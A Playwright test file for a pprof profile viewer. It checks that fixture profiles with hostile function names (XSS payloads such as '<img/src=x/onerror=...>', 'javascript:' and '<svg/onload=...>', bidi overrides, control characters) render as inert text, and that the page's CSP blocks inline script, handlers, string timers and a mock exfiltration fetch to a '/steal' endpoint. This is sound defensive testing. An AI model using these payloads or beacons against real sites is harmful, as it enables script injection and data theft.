// Hostile input (issue 17): the built page's Content-Security-Policy, and profiles written by a
// real Go program whose names are payloads (src/parse/pprof/testdata/hostile/main.go: HTML that
// runs script if parsed, `javascript:`, U+202E and other bidi controls, terminal escapes, NUL, a
// 1 MiB name). Loaded, hovered, searched and zoomed: no script of theirs runs, no dialog opens,
// no CSP violation, the layout holds, the bidi name shows its visible marker.

import { dirname, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, type Page } from '@playwright/test';
import { digestOf as fixtureDigest, flameTotal, openApp, openFiles, test } from './helpers';
import { readFileSync } from 'node:fs';

const HOSTILE = resolve(dirname(fileURLToPath(import.meta.url)), '../src/parse/pprof/testdata/hostile');
const hostile = (name: string) => resolve(HOSTILE, name);
const digest = (name: string): ReturnType<typeof fixtureDigest> => JSON.parse(readFileSync(`${hostile(name)}.summary.json`, 'utf8'));

/** What an injected payload sets, and what the page did with the names (read from the DOM). */
async function pageState(page: Page) {
  return page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown };
    const raw = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
    const rawIn: string[] = [];
    for (const el of document.querySelectorAll('*')) {
      for (const a of el.attributes) if (raw.test(a.value)) rawIn.push(`${el.tagName}[${a.name}]`);
      for (const n of el.childNodes) if (n.nodeType === Node.TEXT_NODE && raw.test(n.textContent ?? '')) rawIn.push(`${el.tagName} text`);
    }
    return {
      pwned: w.__pwned,
      // Elements a name would make if it were parsed as HTML: <img>, <svg onload>, handlers.
      injected: document.querySelectorAll('img, script:not([src]), [onerror], [onload], a[href^="javascript:" i], iframe, object, embed').length,
      rawIn,
    };
  });
}

/**
 * Elements that run past the viewport's right edge and are not clipped there by a scrolling or
 * clipping ancestor (what a user would see cut off or a page that scrolls sideways).
 */
async function overflowing(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const W = document.documentElement.clientWidth;
    const out: string[] = [];
    if (document.documentElement.scrollWidth > W + 1) out.push(`the page scrolls sideways: ${document.documentElement.scrollWidth} > ${W}`);
    for (const el of document.body.querySelectorAll('*')) {
      const r = el.getBoundingClientRect();
      if (r.width === 0 || r.right <= W + 1) continue;
      let clipped = false;
      for (let p = el.parentElement; p && p !== document.body; p = p.parentElement) {
        const s = getComputedStyle(p);
        if (s.overflowX !== 'visible' && p.getBoundingClientRect().right <= W + 1) {
          clipped = true;
          break;
        }
      }
      if (!clipped) out.push(`${el.tagName.toLowerCase()}.${el.className} right=${Math.round(r.right)} > ${W}`);
    }
    return out.slice(0, 10);
  });
}

async function expectInsideViewport(page: Page, testId: string): Promise<void> {
  const box = await page.getByTestId(testId).boundingBox();
  const width = page.viewportSize()!.width;
  expect(box, `${testId} is shown`).not.toBeNull();
  expect(box!.x, `${testId}'s left edge`).toBeGreaterThanOrEqual(0);
  expect(box!.x + box!.width, `${testId}'s right edge`).toBeLessThanOrEqual(width + 1);
}

test('the built page has a strict policy, and it stops inline script and eval (the check sees each)', async ({ page, cspViolations }) => {
  await openApp(page);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const directives = new Map(policy!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k!, v.join(' ')]));
  expect(directives.get('script-src')).toBe("'self'");
  expect(directives.get('worker-src')).toBe("'self'");
  expect(directives.get('object-src')).toBe("'none'");
  expect(directives.get('base-uri')).toBe("'none'");
  expect(directives.get('connect-src')).toBe("'self' https:");
  expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*/);

  // What a name that reached the DOM as HTML would do: an inline script, an event handler, eval.
  const ran = await page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown };
    const s = document.createElement('script');
    s.textContent = 'window.__pwned = "inline"';
    document.body.append(s);
    const div = document.createElement('div');
    div.setAttribute('onclick', 'window.__pwned = "handler"');
    document.body.append(div);
    div.click();
    // A string as code (eval's family). The page's own evaluate is DevTools', which the policy
    // does not cover: a timer's string is the page's.
    setTimeout('window.__pwned = "timeout"', 0);
    // A connection to a plain-http site (a beacon to an attacker's host).
    const beacon = fetch('http://127.0.0.1:9/steal').then(
      () => 'sent',
      () => 'refused',
    );
    return new Promise<unknown>((r) => setTimeout(async () => r({ pwned: w.__pwned, beacon: await beacon }), 100));
  });
  expect(ran).toEqual({ pwned: undefined, beacon: 'refused' });
  await expect.poll(() => cspViolations.filter((v) => !v.startsWith('console:')).length).toBe(4);
  expect(cspViolations.join('\n')).toMatch(/connect-src blocked http:\/\/127\.0\.0\.1:9\/steal/);
  expect(cspViolations.join('\n')).toMatch(/script-src-elem blocked inline/);
  expect(cspViolations.join('\n')).toMatch(/script-src-attr blocked inline/);
  expect(cspViolations.join('\n')).toMatch(/script-src blocked eval/);
  // Seen and asserted: the fixture's own check (no violation at all) is for the app's pages.
  cspViolations.length = 0;
});

for (const viewport of [
  { width: 1440, height: 900 },
  { width: 1280, height: 720 },
]) {
  test(`hostile heap profile at ${viewport.width}x${viewport.height}: hovered, searched and zoomed, nothing of its names runs`, async ({ page }) => {
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    await page.setViewportSize(viewport);
    await openApp(page);
    await openFiles(page, [hostile('heap.pb.gz')]);
    const d = digest('heap.pb.gz');
    await expect.poll(() => flameTotal(page)).toBe(d.totals[d.sampleTypes.indexOf(`${d.defaultSampleType}/bytes`)]!);

    const flame = page.getByTestId('flamegraph');
    const top = page.getByTestId('top-table');
    // The bidi name with its marker, isolated; the HTML and javascript: names as text.
    await expect(top).toContainText('main.safe⟨U+202E⟩gnp.exe');
    await expect(top).toContainText('javascript:window.__pwned=1//main.go');
    await page.getByTestId('sample-type').selectOption('alloc_space');
    await expect(top).toContainText('main.evil<img/src=x/onerror=window.__pwned=1>');
    await expect(top.locator('bdi', { hasText: 'main.safe⟨U+202E⟩gnp.exe' }).first()).toBeVisible();
    // The 1 MiB name is cut, saying its length.
    await expect(top).toContainText('(1,048,581 characters)');

    // Hover every frame: each tip is text.
    const frames = flame.locator('g');
    const n = await frames.count();
    expect(n).toBeGreaterThan(10);
    for (const name of ['main.evil<img', 'javascript:', 'main.safe⟨U+202E⟩', 'main.esc', 'main.AAAA', 'main.⟨U+2067⟩rtl']) {
      const frame = flame.locator('g', { hasText: name }).first();
      await frame.hover();
      await expect(page.locator('.d3-flame-graph-tip')).toContainText(name);
    }

    // Search: a payload typed as a query is a query.
    await page.getByTestId('search').fill('__pwned');
    await expect(page.getByTestId('search-share')).toContainText('2 functions match');
    await page.getByTestId('search').fill('<svg/onload=window.__pwned=1>');
    await page.getByTestId('search').fill('');

    // Zoom into the javascript: frame, then the HTML one, then back.
    await flame.locator('g', { hasText: /^javascript:window\.__pwned=1\/\/main\.go/ }).first().click();
    await expect(page.getByTestId('reset-zoom')).toBeEnabled();
    await expect(top).toContainText('javascript:window.__pwned=1//main.go');
    await page.getByTestId('reset-zoom').click();
    await flame.locator('g', { hasText: /^main\.evil<img/ }).first().click();
    await expect(page.getByTestId('reset-zoom')).toBeEnabled();
    await page.getByTestId('reset-zoom').click();

    const state = await pageState(page);
    expect(state.pwned).toBeUndefined();
    expect(state.injected).toBe(0);
    expect(state.rawIn, 'raw bidi or control characters in the DOM').toEqual([]);
    expect(dialogs).toEqual([]);
    await expectInsideViewport(page, 'flamegraph');
    await expectInsideViewport(page, 'top-table');
    expect(await overflowing(page)).toEqual([]);
  });
}

test('hostile goroutine profiles (protobuf, debug=1, debug=2): names are text, marked, inside the page', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.setViewportSize({ width: 1280, height: 720 });
  await openApp(page);
  await openFiles(page, [hostile('goroutine.pb.gz'), hostile('goroutine_debug1.txt'), hostile('goroutine_debug2.txt')]);
  for (const name of ['goroutine.pb.gz', 'goroutine_debug1.txt', 'goroutine_debug2.txt']) {
    await page.getByRole('button', { name, exact: true }).click();
    const view = page.locator('[data-testid="goroutine-profile-view"], [data-testid="goroutine-dump-view"]');
    await expect(view).toBeVisible();
    // Each group is named by its innermost frame (main.work): open them all to show their stacks.
    const groups = view.getByTestId('goroutine-group');
    await expect(groups.first()).toBeVisible();
    for (let i = 0, n = await groups.count(); i < n; i++) {
      await groups.nth(i).hover();
      await groups.nth(i).click();
    }
    await expect(view).toContainText('main.safe⟨U+202E⟩gnp.exe');
    await expect(view).toContainText('javascript:window.__pwned=1//main.go');
    await expect(view).toContainText('main.evil<img/src=x/onerror=window.__pwned=1>');
    await expect(view.locator('bdi', { hasText: 'main.safe⟨U+202E⟩gnp.exe' }).first()).toBeVisible();
    const state = await pageState(page);
    expect(state.pwned, name).toBeUndefined();
    expect(state.injected, name).toBe(0);
    expect(state.rawIn, `${name}: raw bidi or control characters in the DOM`).toEqual([]);
    expect(await overflowing(page), name).toEqual([]);
  }
  expect(dialogs).toEqual([]);
});
